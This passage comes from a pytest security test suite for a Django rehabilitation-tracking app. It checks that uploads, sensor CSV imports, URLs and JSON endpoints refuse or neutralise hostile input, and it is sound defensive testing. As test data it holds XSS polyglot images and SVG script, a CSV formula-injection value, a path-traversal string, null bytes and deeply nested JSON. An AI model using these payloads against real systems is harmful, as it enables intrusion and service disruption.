    big = _send(client, endpoint, url, body | {first: "x" * (3 * 1024 * 1024)})
    many = _send(client, endpoint, url, body | {f"f{i}": "1" for i in range(1500)})

    assert big.status_code == 400
    if endpoint.json:
        # A JSON object has no field-count limit: its unknown keys are ignored.
        assert many.status_code < 500
    else:
        assert many.status_code == 400


# --- Uploads ----------------------------------------------------------------------------------


def _png(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "PNG")
    return out.getvalue()


UPLOADS = {
    "not-an-image": ("exercise.png", b"%PDF-1.4 this is not a picture\n" * 10),
    "huge-file": ("exercise.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * (3 * 1024 * 1024)),
    "too-many-pixels": ("exercise.png", _png((4001, 10))),
    "html-polyglot": ("exercise.html", _png() + b"<html><script>alert(1)</script></html>"),
    "gif-not-allowed": ("exercise.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    "svg-script": ("exercise.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script>'),
}


@pytest.mark.parametrize("upload", UPLOADS)
def test_it_refuses_or_tames_hostile_exercise_pictures(client, world, upload):
    client.force_login(world.clinician)
    filename, content = UPLOADS[upload]
    body = EXERCISE_BODY | {"image": (filename, content), "image_alt": "A side plank"}
    endpoint = ENDPOINTS["exercise-add"]

    response = _send(client, endpoint, reverse("rehab:exercise_add"), body)

    assert response.status_code in {200, 400}
    assert not Exercise.objects.filter(name="Side plank").exists()
    assert "image" in response.context["form"].errors


def _hostile_sensor_files(world: World) -> dict[str, bytes]:
    start = dt.datetime.combine(
        world.patient.local_today() - dt.timedelta(days=4), dt.time(9), tzinfo=world.patient.zone
    )
    rows = samples(start, days=3, minutes=10, worn=lambda at: True)
    good = ibutton_file(rows, zone=world.patient.zone)
    return {
        "html-posing-as-csv": b"<html><script>alert(1)</script>Date/Time,Unit,Value</html>",
        "csv-formula-serial": good.replace(b"5D0000001A2B3C21", b'=HYPERLINK("http://x")'),
        "nul-bytes": good.replace(b"C,32", b"C,\x0032", 1),
        "lone-surrogate-bytes": good.replace(b"C,32", b"C,\xed\xa0\x8032", 1),
        "huge-numbers": good.replace(b"C,32.0", b"C,1e309", 1),
        "far-future-year": good.replace(
            rows[-1][0].astimezone(world.patient.zone).strftime("%d/%m/%y").encode(), b"01/01/99"
        ),
        "million-columns": b"Date (UTC),Time (UTC),Value" + b",x" * 300_000 + b"\n",
        "gzip": b"\x1f\x8b\x08\x00" + bytes(range(256)) * 10,
    }


HOSTILE_SENSOR_FILES = [
    "html-posing-as-csv",
    "csv-formula-serial",
    "nul-bytes",
    "lone-surrogate-bytes",
    "huge-numbers",
    "far-future-year",
    "million-columns",
    "gzip",
]


@pytest.mark.parametrize("name", HOSTILE_SENSOR_FILES)
def test_it_refuses_or_tames_hostile_brace_sensor_files(client, world, name):
    client.force_login(world.clinician)
    content = _hostile_sensor_files(world)[name]
    endpoint = ENDPOINTS["brace-sensor-import"]
    url = reverse("rehab:brace_sensor_import", args=[world.patient.pk])

    response = _send(client, endpoint, url, {"serial": "", "file": ("f.csv", content)})

    assert response.status_code in {200, 302, 400}
    if response.status_code == 302:  # imported: only what a logger could have recorded
        sensor = BraceSensor.objects.get()
        assert sensor.patient == world.patient
        assert all(0 <= d.hours <= 25 for d in MeasuredBraceDay.objects.all())
    else:
        assert not MeasuredBraceDay.objects.exists()


def test_it_stores_and_serves_a_polyglot_picture_only_as_what_it_is(client, world):
    """A valid JPEG named .png with HTML after it: kept and served as a JPEG, never as a page."""
    client.force_login(world.clinician)
    picture = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(picture, "JPEG")
    body = EXERCISE_BODY | {
        "image": ("plank.png", picture.getvalue() + b"<html><script>alert(1)</script></html>"),
        "image_alt": "A side plank",
    }

    _send(client, ENDPOINTS["exercise-add"], reverse("rehab:exercise_add"), body)
    exercise = Exercise.objects.get(name="Side plank")
    served = client.get(reverse("rehab:exercise_image", args=[exercise.pk]))
    served.close()

    assert exercise.image.name.endswith(".jpeg")
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"


PATIENT_ID_URLS = [
    "tracker:patient_detail",
    "tracker:patient_edit",
    "tracker:patient_invite",
]


@pytest.mark.parametrize("url_name", PATIENT_ID_URLS)
@pytest.mark.parametrize("patient_id", ["other", "0", "9" * 30])
def test_it_answers_404_to_other_or_impossible_ids_in_urls(
    clinician_client, world, url_name, patient_id
):
    pk = world.other_patient.pk if patient_id == "other" else int(patient_id)

    response = clinician_client.get(reverse(url_name, args=[pk]))

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(patient=world.other_patient).exists()


def test_it_keeps_hostile_text_verbatim_and_escaped(clinician_client, world):
    text = HOSTILE_VALUES["end-script-in-json"].as_text(world)
    data = patient_form_data(world.patient) | {"sport": text}

    response = clinician_client.post(
        reverse("tracker:patient_edit", args=[world.patient.pk]), data, follow=True
    )

    world.patient.refresh_from_db()
    assert world.patient.sport == text
    assert RAW_SCRIPT not in response.text
    assert "&lt;/script&gt;" in response.text


def test_it_never_stores_a_foreign_clinic(client, world):
    other_clinic = ClinicFactory(name="Third Clinic")

    client.force_login(world.clinician)
    client.post(
        reverse("tracker:patient_add"),
        ENDPOINTS["patient-add"].body(world) | {"clinic": str(other_clinic.pk)},
    )

    assert not Patient.objects.filter(clinic=other_clinic).exists()


@pytest.mark.parametrize("day", ["2026-02-30", "0001-01-01", "9" * 30, "abc%00", "..%2F..%2Fetc"])
def test_it_answers_404_to_impossible_days_in_diary_urls(patient_client, world, day):
    response = patient_client.get(f"/diary/{day}/")
    saved = patient_client.get(f"/checkin/saved/{day}/")

    assert (response.status_code, saved.status_code) == (404, 404)


@pytest.mark.parametrize("token_id", ["other", "0", "9" * 30])
def test_it_answers_404_to_revoking_someone_elses_or_an_impossible_token(
    clinician_client, world, other_clinician, token_id
):
    token, _ = api_token_create(user=other_clinician, name="Theirs")
    pk = token.pk if token_id == "other" else int(token_id)

    response = clinician_client.post(reverse("tracker:api_token_revoke", args=[pk]))

    assert response.status_code == 404
    token.refresh_from_db()
    assert token.revoked_at is None


# --- Inputs that once reached a 500 through a limit of Python's, not a field (issue 19) --------

DEEP_JSON_DEPTHS = [500, 100_000]  # past Python's recursion limit in our code; in the decoder


def _nested(depth: int) -> bytes:
    return b'{"note": ' + b"[" * depth + b"]" * depth + b"}"


@pytest.mark.parametrize("depth", DEEP_JSON_DEPTHS)
@pytest.mark.parametrize(
    ("method", "url_name"), [("PUT", "api:checkin_day"), ("PATCH", "api:me")], ids=["checkin", "me"]
)
def test_it_refuses_deeply_nested_json_with_400(client, world, method, url_name, depth):
    client.force_login(world.patient.user)
    args = [_patient_days_ago(world, 1)] if url_name == "api:checkin_day" else []

    response = client.generic(
        method, reverse(url_name, args=args), _nested(depth), "application/json"
    )

    assert response.status_code == 400
    assert "nested" in response.json()["detail"]
    assert not DiaryEntry.objects.filter(patient=world.patient).exists()


def test_it_accepts_json_nested_as_deep_as_a_check_in_needs(client, world):
    world = _prepared(ENDPOINTS["checkin"], world)
    client.force_login(world.patient.user)
    items = world.extra["items"]
    body = ENDPOINTS["api-checkin"].body(world) | {
        "sections": {
            "brace": {"hours": 7.5},
            "exercises": {"items": ",".join(str(i.pk) for i in items)}
            | {f"done_{i.pk}": "yes" for i in items}
            | {f"sets_{i.pk}": 2 for i in items}
            | {f"pain_{i.pk}": 3 for i in items},
        }
    }
    url = reverse("api:checkin_day", args=[_patient_days_ago(world, 1)])

    response = client.put(url, json.dumps(body), content_type="application/json")

    assert response.status_code in {200, 201}, response.content


FAR_OFF_RANGES = [
    {"end": "0001-01-01"},
    {"end": "9999-12-31"},
    {"start": "9999-12-25", "end": "9999-12-31"},
    {"start": "0001-01-01", "end": "0001-01-07"},
    {"start": "0001-01-01"},
    {"start": "9999-12-31"},
]
RANGE_IDS = [
    "end-year-1",
    "end-year-9999",
    "last-week-of-9999",
    "first-week-of-1",
    "start-1",
    "start-9999",
]


@pytest.mark.parametrize("query", FAR_OFF_RANGES, ids=RANGE_IDS)
def test_it_answers_far_off_trend_ranges_with_a_form_error(clinician_client, world, query):
    url = reverse("tracker:patient_trends", args=[world.patient.pk])

    response = clinician_client.get(url, query)

    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors
    assert "between 1900 and 2100" in " ".join(e for es in form.errors.values() for e in es)
    # The default range (the last 12 weeks) is shown instead.
    assert response.context["trends"].start == form.default_start


@pytest.mark.parametrize("query", FAR_OFF_RANGES, ids=RANGE_IDS)
def test_it_answers_far_off_export_ranges_with_a_form_error(clinician_client, world, query):
    data = {
        "dataset": "daily",
        "date_from": query.get("start", ""),
        "date_to": query.get("end", ""),
    }

    response = clinician_client.post(reverse("tracker:export"), data)

    assert response.status_code == 400
    assert response.context["form"].errors
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.parametrize("query", FAR_OFF_RANGES, ids=RANGE_IDS)
def test_it_answers_far_off_api_export_ranges_with_400(client, world, query):
    client.force_login(world.clinician)
    url = reverse("api:export", args=["daily"])
    params = {"date_from": query.get("start", ""), "date_to": query.get("end", "")}

    response = client.get(url, {k: v for k, v in params.items() if v})

    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action="export").exists()


LONG_USERNAMES = ["x" * 151, "x" * 256, "x" * 20_000]


@pytest.mark.parametrize("username", LONG_USERNAMES, ids=["151", "256", "20000"])
@pytest.mark.parametrize("url_name", ["admin:login", "login"])
def test_it_refuses_an_over_long_username_before_the_lockout_records_it(
    client, world, url_name, username
):
    response = client.post(
        reverse(url_name), {"username": username, "password": PASSWORD}, REMOTE_ADDR="198.51.100.9"
    )

    assert response.status_code == 200
    assert response.context["form"].errors
    assert not AccessAttempt.objects.filter(username__startswith="xxx").exists()
    assert not AccessFailureLog.objects.filter(username__startswith="xxx").exists()
